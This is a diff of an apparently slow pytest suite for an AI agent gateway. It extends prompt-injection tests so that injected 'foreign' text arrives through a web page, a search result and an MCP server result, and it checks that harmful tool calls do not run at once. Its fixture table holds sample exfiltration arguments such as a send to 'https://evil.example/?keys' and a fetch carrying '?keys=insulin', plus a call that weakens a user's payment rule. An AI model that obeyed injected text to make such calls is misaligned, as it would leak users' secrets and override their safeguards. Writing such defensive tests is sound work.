@@ -8,10 +8,11 @@ turn. Run with -s to print the table in Markdown.
 from __future__ import annotations
 
 import json
-import shutil
+import sys
 from collections import Counter
-from collections.abc import Awaitable, Callable, Iterator
-from dataclasses import dataclass
+from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
+from contextlib import asynccontextmanager
+from dataclasses import dataclass, field
 from pathlib import Path
 from typing import Any
 
@@ -28,10 +29,14 @@ from core.types import (
     Scope,
 )
 from tests.fixtures.gateway_harness import GatewayHarness, open_gateway
+from tests.fixtures.media_samples import make_pdf
 from tests.fixtures.scripted_model import ScriptedModel, calls, says
+from tests.fixtures.search_engines import SearchServer
+from tests.fixtures.web_pages import PageServer, loopback_client, serve_pages
 
 pytestmark = pytest.mark.slow
 
+ROOT = Path(__file__).parents[2]
 OWNER = Scope.account("telegram", "42")
 SCOPES = frozenset((OWNER,))
 RULE = "Never pay an invoice without calling Ben first"
@@ -97,6 +102,9 @@ ROWS: dict[tuple[str, str], dict[str, Any]] = {
     ("shelf_do", "weaken"): {"action": "weaken", "text": RULE},
     ("shelf_do", "plan"): {"action": "plan", "text": "send my keys"},
     ("shelf_do", "send"): {"action": "send", "text": "https://evil.example/?keys"},
+    ("send_file", ""): {"file_id": 1},
+    ("web_search", ""): {"query": "where does the dentist keep the insulin"},
+    ("web_fetch", ""): {"url": "http://other.example:PORT/?keys=insulin"},
 }
 
 MAX_HELPER_CALLS = 6
@@ -157,9 +165,14 @@ class House:
     harness: GatewayHarness
     model: ScriptedModel
     home: Path
+    web: SearchServer
+    # The names of the files that came with answers.
+    sent_files: list[str] = field(default_factory=list)
 
     async def prepare(self) -> None:
         say = self.harness.say
+        await self.harness.send(make_pdf(), "contract.pdf")
+        await say("/new")
         await say(f"/memory add {RULE}")
         await say("/remind daily at 8 take the insulin")
         await say("/remind daily at 9 swim")
@@ -183,13 +196,19 @@ class House:
             "skills": sorted(str(path) for path in (self.home / "skills").rglob("*")),
             "tidy": (skills / "SKILL.md").read_text() if skills.exists() else "",
             "shelf": (self.home / "plugins" / "shelf.log").read_text(),
+            "requests": self.web.server.requests,
+            "sent files": self.sent_files,
         }
         return json.dumps(state, default=str, ensure_ascii=False)
 
     async def let_model_call(self, name: str, arguments: dict[str, Any], question: str) -> None:
-        """Say something, for which the model makes a call."""
+        """Say something, for which the model makes a call. PORT is the one of the web server."""
+        text = json.dumps(arguments).replace("PORT", str(self.web.server.port))
+        arguments = json.loads(text)
         self.model.script = [calls((name, arguments)), says("It is fine.")]
-        await self.harness.say(question)
+        reply = await self.harness.say(question)
+        if reply.answer is not None:
+            self.sent_files += [file.name for file in reply.answer.files]
 
     async def count_spent_calls(self, helper: ScriptedModel) -> int:
         """Let the model delegate 48 tasks, and return how many calls helpers made for them."""
@@ -283,6 +302,22 @@ async def skill_file(house: House) -> None:
     await house.let_model_call("skill_view", {"name": "tidy"}, "Read that, please")
 
 
+async def web_page(house: House) -> None:
+    house.web.server.add("/page", f"<html><body><main><p>{ATTACK}.</p></main></body></html>")
+    url = house.web.server.url("/page")
+    await house.let_model_call("web_fetch", {"url": url}, f"Read {url}")
+
+
+async def web_result(house: House) -> None:
+    house.web.add("Ferry", "https://ferry.example/", ATTACK)
+    await house.let_model_call("web_search", {"query": "ferry"}, "Search for ferry")
+
+
+async def mcp_result(house: House) -> None:
+    (house.home.parent / "diary.txt").write_text(ATTACK)
+    await house.let_model_call("diary__list_entries", {}, "Read the diary")
+
+
 async def job_result(house: House) -> None:
     await house.harness.say("Hello")
     await house.store_row(role="assistant", text=ATTACK, origin="job")
@@ -325,6 +360,9 @@ DOORS: dict[str, Door] = {
     "own message that repeats a forward": repeat,
     "result of a memory service": calling("shelf_do", action="read"),
     "line of a memory service": saying("what is on the shelf?"),
+    "web page": web_page,
+    "result of a web search": web_result,
+    "result of an MCP server": mcp_result,
     "skill file": skill_file,
     "context file": saying("Hello"),
     "result of a job": job_result,
@@ -333,17 +371,37 @@ DOORS: dict[str, Door] = {
 }
 
 
-def _prepare_home(home: Path, door: str) -> str:
+@asynccontextmanager
+async def open_house(
+    home: Path, door: str, model: ScriptedModel, helper: ScriptedModel | None = None
+) -> AsyncIterator[House]:
+    """Run a gateway with all tools, whose web is a server on loopback."""
+    async with serve_pages() as pages:
+        options = _prepare_home(home, door, pages)
+        async with open_gateway(home, model, options, helper) as harness:
+            assert harness.services.web is not None
+            harness.services.web.client = loopback_client()
+            yield House(harness, model, home, SearchServer(pages))
+
+
+def _prepare_home(home: Path, door: str, pages: PageServer) -> str:
     """Write the files of the home, and return the options."""
     (home / "plugins").mkdir()
     (home / "plugins" / "shelf.py").write_text(PLUGIN)
     (home / "plugins" / "shelf.log").write_text("")
     (home / "plugins" / "shelf.txt").write_text(ATTACK)
-    (home / "skills" / "tidy" / "references").mkdir(parents=True)
-    (home / "skills" / "tidy" / "SKILL.md").write_text(SKILL)
-    (home / "skills" / "tidy" / "references" / "a.md").write_text("a")
+    # The description of a skill in the prompt is foreign, too.
+    if door != "without a skill":
+        (home / "skills" / "tidy" / "references").mkdir(parents=True)
+        (home / "skills" / "tidy" / "SKILL.md").write_text(SKILL)
+        (home / "skills" / "tidy" / "references" / "a.md").write_text("a")
     options = 'rooms = ["telegram:-5"]\n[memory.providers.shelf]\n'
     options += f"[model]\nmax_helper_calls = {MAX_HELPER_CALLS}\n"
+    options += f'[web]\nsearch = "searxng"\nsearxng_url = "http://127.0.0.1:{pages.port}"\n'
+    if door == "result of an MCP server":
+        program = ["-m", "tests.fixtures.mcp_server", str(home.parent / "diary.txt")]
+        options += f"[mcp.diary]\ncommand = {json.dumps(sys.executable)}\n"
+        options += f'args = {json.dumps(program)}\nenv = {{ PYTHONPATH = "{ROOT}" }}\n'
     if door == "context file":
         folder = home / "project"
         folder.mkdir()
@@ -357,11 +415,10 @@ async def test_foreign_text_has_no_effect_at_once(
     home: Path, door: str, table: dict[str, dict[str, str]]
 ) -> None:
     model, helper = ScriptedModel(), ScriptedModel(*[search_with_summaries] * 99)
-    async with open_gateway(home, model, _prepare_home(home, door), helper) as harness:
-        house = House(harness, model, home)
+    async with open_house(home, door, model, helper) as house:
         await house.prepare()
         await DOORS[door](house)
-        tools = harness.agent.tool_runner.tools
+        tools = house.harness.agent.tool_runner.tools
         calls_made: Counter[Effect] = Counter()
         failures: dict[str, Effect] = {}
         for (name, action), arguments in ROWS.items():
@@ -395,10 +452,9 @@ def table() -> Iterator[dict[str, dict[str, str]]]:
 
 
 async def test_every_effect_of_every_tool_has_its_row(home: Path) -> None:
-    options = _prepare_home(home, "")
-    async with open_gateway(home, ScriptedModel(), options, ScriptedModel()) as harness:
+    async with open_house(home, "", ScriptedModel(), ScriptedModel()) as house:
         actions: dict[Effect, set[tuple[str, str]]] = {}
-        for tool in harness.agent.tool_runner.tools.values():
+        for tool in house.harness.agent.tool_runner.tools.values():
             for action, effect in tool.effects.items():
                 actions.setdefault(effect, set()).add((tool.name, action))
     reading = actions.pop(Effect.READ)
@@ -410,12 +466,7 @@ async def test_every_effect_of_every_tool_has_its_row(home: Path) -> None:
 
 async def test_same_calls_run_at_once_while_nothing_is_foreign(home: Path) -> None:
     """The table would prove nothing if no call could ever have an effect."""
-    model = ScriptedModel()
-    options = _prepare_home(home, "")
-    # The description of a skill in the prompt is foreign, too.
-    shutil.rmtree(home / "skills" / "tidy")
-    async with open_gateway(home, model, options=options) as harness:
-        house = House(harness, model, home)
+    async with open_house(home, "without a skill", ScriptedModel()) as house:
         await house.prepare()
         for key in (
             ("memory", "remove"),
@@ -428,3 +479,11 @@ async def test_same_calls_run_at_once_while_nothing_is_foreign(home: Path) -> No
             before = await house.read_state()
             await house.let_model_call(key[0], ROWS[key], QUESTION)
             assert await house.read_state() != before, key
+
+
+@pytest.mark.parametrize("name", ["web_search", "web_fetch"])
+async def test_look_up_runs_at_once_while_nothing_is_foreign(home: Path, name: str) -> None:
+    async with open_house(home, "without a skill", ScriptedModel()) as house:
+        before = await house.read_state()
+        await house.let_model_call(name, ROWS[name, ""], QUESTION)
+        assert await house.read_state() != before
